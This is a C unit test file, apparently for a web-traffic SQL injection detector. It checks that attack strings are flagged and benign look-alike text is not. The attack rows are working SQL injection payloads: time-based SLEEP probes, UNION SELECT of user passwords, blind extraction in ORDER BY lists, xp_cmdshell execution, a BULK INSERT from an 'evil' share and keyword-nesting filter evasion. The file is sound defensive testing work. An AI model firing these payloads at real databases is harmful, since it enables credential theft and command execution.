/* test_payload_r10s.c - issue 21, red team s (SQL injection, the tenth):
 * the rows its table found. A call between two strings, a catalog's name
 * alone, a LIKE pattern written out and two years compared are no query;
 * PostgreSQL's E'..' and $$..$$ strings and MySQL's \N are literals; a
 * conditional or query as an item of an ORDER BY list, comparisons
 * chained after a break, RLIKE after a number. Attacks draw sqli as a
 * query value and a form body and reach the kill line; benign rows draw
 * nothing (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define S PAYLOAD_SQLI
#define N PAYLOAD_NONE

/* prose and names that looked like a call, a catalog read, a break, a probe */
static void test_lookalikes_stay_quiet(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"\"Sleep(5)\" - Chapter 5", N},
		{"'sleep(2)' is a function name", N},
		{"mysql.user", N},
		{"mysql.user=root", N},
		{"name like '%smith%'", N},
		{"title like '%foo%'", N},
		{"where name like 'a%'", N},
		{"x ILIKE '%abc%'", N},
		{"SIMILAR TO '%(b|d)%'", N},
		{"Windows AND 2000>1998", N},
		{"Office AND 2019>2016", N},
		{"Size 10' 6\" -- fits perfectly", N},
		{"5'11\" # tall", N},
		{"12\" -- twelve inches", N},
		{"1' # one foot", N},
		{"1/2\" -- half inch", N},
		{"while(1) sleep(1);", N},
		{"for(;;) sleep(2); // wait", N},
	};
	rt_run("lookalikes", t, sizeof(t) / sizeof(t[0]));
}

/* the same constructs where they do harm */
static void test_constructs_still_found(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1' AND SLEEP(5)-- -", S},
		{"\"-sleep(5)-\"", S},
		{"1 UNION SELECT user,password FROM mysql.user", S},
		{"1' or name like '%", S},
		{"abc AND 1221>1217", S},
		{"abc AND 2000=2000", S},
		{"1\" -- -", S},
		{"admin\"-- wXyZ", S},
		{"1'-- wXyZ", S},
		{"1' #", S},
		{"1\" -- a", S},
		{"1'-- -1 or 2", S},
		{"1) AND SLEEP(5)-- -", S},
		{"(select(sleep(5)))", S},
		{"information_schema.tables", S},
		{"Mozilla/5.0 (X11; Linux) sleep(5)", S},
	};
	rt_run_kill("still found", S, t, sizeof(t) / sizeof(t[0]));
}

/* PostgreSQL's E'..' and $$..$$ strings, MySQL's \N: literals the
 * boolean and comparison rules read as any other */
static void test_dialect_literals(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1 AND \\N IS NULL", S},
		{"1' AND \\N IS NULL-- -", S},
		{"1 AND $$a$$=$$a$$", S},
		{"1' AND $$x$$=$$x$$--", S},
		{"1 OR $q$a$q$=$q$a$q$-- -", S},
		{"1' AND E'\\x41'='A'--", S},
		{"1' AND E'a'||E'b'='ab'--", S},
	};
	rt_run_kill("dialect literals", S, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"$$ price range $$", N},
		{"$5 - $10 deals", N},
		{"E'Lyon", N},
		{"line1\\nline2", N},
		{"C:\\new\\N files", N},
		{"$a$ and $b$ are tags", N},
	};
	rt_run("dialect literals", b, sizeof(b) / sizeof(b[0]));
}

/* a query or a conditional as the next item of a sort list */
static void test_sort_list_items(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1 ORDER BY 1,(SELECT 1)", S},
		{"ORDER BY 1,(SELECT 1)-- -", S},
		{"name,(CASE WHEN (SELECT SUBSTR(password,1,1) FROM users LIMIT 1)='a' THEN name ELSE id END)", S},
		{"id desc,(case when (ascii(substr(user(),1,1))>64) then id else name end)", S},
		{"u.name ASC,(CASE WHEN (SELECT 1)=1 THEN 1 ELSE 2 END)-- -", S},
	};
	rt_run_kill("sort list", S, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"apples, (select 2)", N},
		{"name, (case sensitive)", N},
		{"id,(when needed)", N},
		{"ORDER BY 1, (SELECT best option)", N},
		{"order by 1, (select)", N},
	};
	rt_run("sort list", b, sizeof(b) / sizeof(b[0]));
}

/* probes the tools write with no function: inline queries compared,
 * comparisons chained after the break, RLIKE after a number, BULK INSERT */
static void test_short_probes(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"(select 1)=(select 1)-- -", S},
		{"(SELECT 2)<>(SELECT 3)#", S},
		{"1'=1=0-- -", S},
		{"x'='x'='x'#", S},
		{"1 RLIKE 1", S},
		{"5 regexp '5'-- -", S},
		{"1; BULK INSERT t FROM '\\\\evil\\share\\f.txt'--", S},
	};
	rt_run_kill("short probes", S, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"(select one)=(select two)", N},
		{"(select one) = (select two) -- pick", N},
		{"a=b=c", N},
		{"1 rlike tutorial", N},
		{"bulk insert performance tips", N},
	};
	rt_run("short probes", b, sizeof(b) / sizeof(b[0]));
}

/* a query after a column name quoted as SQL quotes one, JSON's ->>
 * operator, SQL's function inside another call */
static void test_quoted_names_and_operators(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"name`,(select version()),`id", S},
		{"id`,(SELECT password FROM users LIMIT 1)#", S},
		{"[name],(SELECT TOP 1 name FROM sys.tables)--", S},
		{"\"id\",(SELECT user())-- -", S},
		{"1' OR data->>'role' = 'admin' -- -", S},
		{"1 AND printf('%s',sqlite_version())", S},
		{"title`, (SELECT 1) AS `x", S},
		{"created_at desc nulls last,(select 1 from pg_sleep(5))", S},
		{"'||user||'", S},
		{"1 group by id having count(*)>0-- -", S},
		{"1;EXEC [master].[dbo].[xp_cmdshell] 'dir'", S},
		{"1';EXEC [sp_executesql] N'select 1'--", S},
		{"'::text||version()||'", S},
		{"1 AND 1=CHAR(49) COLLATE utf8mb4_bin", S},
		{"1' AND 'a'=CHAR(97) COLLATE latin1_bin-- -", S},
		{"x' group by name having min(0)=0#", S},
	};
	rt_run_kill("quoted names", S, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"Settings -> Privacy -> Ads", N},
		{"\"Title\", (select one)", N},
		{"[x], (select all that apply)", N},
		{"\"Name\", (select from list)", N},
		{"[Name], (select from dropdown)", N},
		{"a->b->c", N},
		{"a' -> 'b", N},
		{"'||user||' is concatenation", N},
		{"'Title', by user", N},
		{"group by month having fun", N},
		{"[xp_cmdshell] docs", N},
		{"exec [summary] notes", N},
		{"name = 'x' COLLATE utf8_bin", N},
		{"ORDER BY name COLLATE NOCASE", N},
		{"1 and printf(\"%d\", n)", N},
	};
	rt_run("quoted names", b, sizeof(b) / sizeof(b[0]));
}

/* UNION SELECT with a keyword nested in itself for a filter that strips it once */
static void test_nested_keywords(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1 UNIUNIONON SELSELECTECT 1,2,3", S},
		{"-1' uniunionon select user(),2-- -", S},
		{"1 UNION SELSELECTECT password FROM users", S},
		{"1 UnIuNiOnOn AlL SeLsElEcTeCt NULL-- -", S},
	};
	rt_run_kill("nested keywords", S, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"reunionion selection", N},
		{"union selectors", N},
	};
	rt_run("nested keywords", b, sizeof(b) / sizeof(b[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lookalikes_stay_quiet),
		cmocka_unit_test(test_constructs_still_found),
		cmocka_unit_test(test_dialect_literals),
		cmocka_unit_test(test_sort_list_items),
		cmocka_unit_test(test_short_probes),
		cmocka_unit_test(test_quoted_names_and_operators),
		cmocka_unit_test(test_nested_keywords),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
